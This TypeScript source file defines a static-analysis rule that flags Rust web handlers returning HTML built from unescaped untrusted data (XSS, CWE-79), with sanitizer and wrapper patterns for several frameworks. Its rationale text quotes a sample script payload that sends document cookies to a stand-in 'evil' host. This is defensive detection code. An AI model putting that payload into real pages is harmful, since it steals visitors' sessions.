import type { SgNode } from '@ast-grep/napi'
import { defineRule, type RuleContext } from '../../../engine/rule.js'
import { isUntrustedValue } from '../_utils/shared.js'

/** Escapers, sanitizers and auto-escaping template renders: their output is safe HTML. */
export const RUST_HTML_SANITIZERS =
  /(?:^|::|\.)(?:encode_text|encode_safe|encode_minimal|encode_attribute|encode_double_quoted_attribute|encode_single_quoted_attribute|encode_quoted_attribute|encode_text_to_string|escape|escape_html|html_escape|escape_str|clean|sanitize|sanitize_html|render|render_once|render_template|render_str|render_to_string|into_string|to_html_escaped)$/

const WRAPPERS = /^(?:(?:axum::response::|response::)?Html|(?:rocket::response::)?(?:content::)?RawHtml|(?:maud::)?PreEscaped|(?:warp::reply::)?html|(?:poem::web::)?Html|(?:salvo::writing::)?Text::Html)$/
const HTML_TYPE = /text\/html|ContentType::html\(\)|mime::TEXT_HTML|ContentType::HTML|TEXT_HTML_UTF_8/

export default defineRule({
  id: 'rust/no-unescaped-html-response',
  languages: ['rust'],
  title: 'HTML response built from unescaped data',
  property: 'injection.xss',
  cwe: ['CWE-79'],
  severity: 'high',
  confidence: 'high',
  message: '{{F}} sends HTML that contains non-constant, unescaped data',
  rationale:
    'Text placed into HTML without escaping is parsed as markup: a value such as `<script>fetch("//evil/?c="+document.cookie)</script>` runs in every visitor\'s browser with the site\'s origin, stealing sessions or acting as the user (CWE-79).',
  safeAlternative:
    'Render through an auto-escaping template (askama, maud `html!`, tera with autoescape), or escape every value with `html_escape::encode_text` before formatting it into markup.',
  match: {
    rule: {
      any: [
        // maud: `html! { (PreEscaped(x)) }` is tokens, not a call
        { kind: 'token_tree', follows: { kind: 'identifier', regex: '^PreEscaped$' } },
        { kind: 'call_expression', has: { field: 'function', any: [{ kind: 'identifier' }, { kind: 'scoped_identifier' }], regex: WRAPPERS.source } },
        { kind: 'call_expression', has: { field: 'function', kind: 'field_expression', has: { field: 'field', regex: '^(?:body|set_body)$' } } },
      ],
    },
  },
  check(node, ctx) {
    if (node.kind() === 'token_tree') return preEscapedInMacro(node, ctx)
    const fn = node.field('function')!
    const arg = ctx.flow.callArguments(node)[0]
    if (!arg) return false
    if (fn.kind() === 'field_expression') {
      // actix/hyper/http builders: only when the response says it is HTML
      const chain = fn.field('value')?.text() ?? ''
      if (!HTML_TYPE.test(chain) && !htmlLiteral(arg)) return false
      if (!HTML_TYPE.test(chain) && !/^(?:HttpResponse|Response|HttpResponseBuilder|http::Response|hyper::Response)/.test(chain)) return false
    }
    if (!isUntrustedValue(arg, ctx, { sanitizers: RUST_HTML_SANITIZERS })) return false
    return { data: { F: fn.kind() === 'field_expression' ? '.body(…)' : fn.text() } }
  },
})

function preEscapedInMacro(tree: SgNode, ctx: RuleContext): boolean {
  for (const id of tree.findAll({ rule: { kind: 'identifier' } })) {
    const prev = id.prev()?.text()
    if (prev === '.' || prev === '::' || id.next()?.text() === '::' || id.next()?.text() === '(') continue
    if (isUntrustedValue(id, ctx, { sanitizers: RUST_HTML_SANITIZERS })) return true
  }
  return false
}

/** A `format!` whose template is markup. */
function htmlLiteral(arg: SgNode): boolean {
  return /^format!\s*\(\s*r?#*"[^"]*<[a-zA-Z!/]/.test(arg.text().replace(/^&/, ''))
}
